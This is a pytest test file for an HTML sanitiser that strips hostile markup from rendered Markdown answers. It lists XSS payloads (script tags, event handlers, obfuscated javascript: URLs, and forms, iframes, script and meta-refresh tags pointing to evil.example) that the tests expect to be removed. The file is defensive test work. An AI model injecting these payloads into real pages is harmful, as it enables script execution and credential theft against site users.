"""The HTML sanitiser: hostile raw HTML from answers goes, ordinary rendered Markdown stays."""

from __future__ import annotations

import markdown
import pytest

from cohort_archive.figures import missing_marker, sanitise_html


def clean(html: str) -> str:
    return sanitise_html(html)


# --- hostile input ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "hostile, gone",
    [
        ("<script>alert(1)</script>", "alert"),
        ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "evil"),
        ('<img src="x.png" onerror="alert(1)">', "onerror"),
        ('<p onclick="alert(1)" onmouseover=alert(2)>hi</p>', "alert"),
        ('<a href="javascript:alert(1)">x</a>', "javascript"),
        ('<a href="JaVaScRiPt:alert(1)">x</a>', "alert"),
        ('<a href="jav&#x61;script:alert(1)">x</a>', "alert"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "alert"),
        ('<a href="java\tscript:alert(1)">x</a>', "alert"),
        ('<a href=" javascript:alert(1)">x</a>', "alert"),
        ('<a href="vbscript:msgbox(1)">x</a>', "vbscript"),
        ('<img src="data:image/png;base64,iVBORw0KGgo=">', "data:"),
        ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data:"),
        ('<iframe src="https://evil.example"></iframe>', "iframe"),
        (
            '<form action="https://evil.example"><input type="password" name="p"><button>Go</button></form>',
            "form",
        ),
        ("<style>body { display: none }</style>", "display"),
        ('<p style="position:fixed;top:0;left:0;width:100%">cover</p>', "position"),
        ('<div style="background:url(javascript:alert(1))">x</div>', "background"),
        ("<svg onload=alert(1)><circle r=10 /></svg>", "svg"),
        ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript"),
        ("<math><mtext><script>alert(1)</script></mtext></math>", "alert"),
        ('<base href="https://evil.example/">', "base"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "refresh"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "stylesheet"),
        ('<object data="https://evil.example/x.swf"></object>', "object"),
        ('<embed src="https://evil.example/x.swf">', "embed"),
        ("<template><img src=x onerror=alert(1)></template>", "onerror"),
        ('<img src="x.png" srcset="javascript:alert(1) 1x">', "srcset"),
        ('<a href="https://example.org" target="_blank" ping="https://evil.example">x</a>', "ping"),
        ('<div class="md-header md-sidebar">spoofed chrome</div>', "md-"),
        ('<h2 id="x" onfocus="alert(1)" tabindex=1 autofocus>t</h2>', "onfocus"),
        ("<!-- <script>alert(1)</script> -->", "alert"),
        ("<textarea>x</textarea><select><option>o</option></select>", "textarea"),
        ('<input type="text" value="steal">', 'type="text"'),
    ],
)
def test_hostile_input_is_removed(hostile, gone):
    out = clean(f"<p>before</p>{hostile}<p>after</p>")
    assert gone.lower() not in out.lower()
    assert "<p>before</p>" in out and "<p>after</p>" in out


@pytest.mark.parametrize(
    "hostile",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="jav&#x61;script:alert(1)">x</a>',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    ],
)
def test_bad_urls_lose_the_attribute_but_keep_the_element(hostile):
    out = clean(hostile)
    assert "href" not in out and "src" not in out


def test_link_rel_added():
    assert clean('<a href="https://example.org" rel="opener">x</a>') == (
        '<a href="https://example.org" rel="noopener nofollow">x</a>'
    )


# --- ordinary content ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://example.org/a.png" alt="a" title="t" width="300" height="200">',
        '<img src="@@ROOT@@/figures/2031-june/7/figures-loss.png" alt="loss">',
        '<img src="../figures/a.png" alt="rel">',
        "<p>a<br>b</p>",
        '<details open=""><summary>More</summary><p>hidden</p></details>',
        "<p>H<sub>2</sub>O and x<sup>2</sup></p>",
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>',
        "<blockquote><p>quote</p></blockquote>",
        "<p><em>e</em> <strong>s</strong> <del>d</del> <ins>i</ins> <mark>m</mark> <kbd>Ctrl</kbd></p>",
        '<p><abbr title="Machine Learning Operations">MLOps</abbr></p>',
        "<hr>",
        '<h2 id="question-14">Q14</h2>',
        '<figure><img src="a.png"><figcaption>cap</figcaption></figure>',
        '<span class="ca-missing-figure">missing figure: figures/x.png</span>',
        '<div class="admonition note"><p class="admonition-title">Note</p></div>',
    ],
)
def test_ordinary_html_is_kept(html):
    assert clean(html) == html


def test_links_keep_http_mailto_relative_and_placeholder_urls():
    for href in [
        "https://example.org/x?y=1",
        "http://example.org",
        "mailto:owl@example.org",
        "../q/14/",
        "#q14",
    ]:
        assert f'href="{href}"' in clean(f'<a href="{href}">x</a>')
    assert 'href="@@ROOT@@/groups/2031-june/7/"' in clean('<a href="@@ROOT@@/groups/2031-june/7/">g</a>')


def test_tables_keep_spans_and_alignment_only():
    html = (
        '<table><thead><tr><th align="center" colspan="2" style="text-align: center;">h</th></tr></thead>'
        '<tbody><tr><td rowspan="2" style="color: red; text-align: right">a</td>'
        '<td style="position: fixed">b</td></tr></tbody></table>'
    )
    out = clean(html)
    assert 'colspan="2"' in out and 'rowspan="2"' in out and 'align="center"' in out
    assert 'style="text-align: center;"' in out and 'style="text-align: right;"' in out
    assert "color" not in out and "position" not in out


def test_code_highlighting_classes_kept_others_dropped():
    html = (
        '<div class="highlight"><pre><span></span><code class="language-python md-typeset">'
        '<span class="kd">def</span> <span class="nf">f</span><span class="hll">x</span>'
        '<span class="evil-overlay">y</span></code></pre></div>'
    )
    out = clean(html)
    assert 'class="highlight"' in out and 'class="language-python"' in out
    assert 'class="kd"' in out and 'class="nf"' in out and 'class="hll"' in out
    assert "md-typeset" not in out and "evil-overlay" not in out


def test_task_list_checkboxes_are_disabled():
    html = (
        '<ul class="task-list"><li class="task-list-item"><label class="task-list-control">'
        '<input type="checkbox" checked><span class="task-list-indicator"></span></label> done</li></ul>'
    )
    out = clean(html)
    assert 'type="checkbox"' in out and 'checked=""' in out and 'disabled="disabled"' in out
    assert 'class="task-list-item"' in out


def test_rendered_markdown_round_trip():
    md = (
        "## Result\n\n"
        '![loss](@@ROOT@@/figures/g/figures-loss.png "Loss")\n\n'
        "| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n"
        "```python\nprint('hi')\n```\n\n"
        f"{missing_marker('figures/my_*odd*_name.png')}\n\n"
        '<img src="figures/x.png" onerror="alert(1)"> <script>alert(2)</script>\n'
    )
    html = markdown.markdown(md, extensions=["tables", "fenced_code", "codehilite"])
    out = clean(html)
    assert '<img alt="loss" src="@@ROOT@@/figures/g/figures-loss.png" title="Loss">' in out
    assert "missing figure: figures/my_*odd*_name.png" in out
    assert "alert" not in out and "<script" not in out
    assert 'style="text-align: center;"' in out
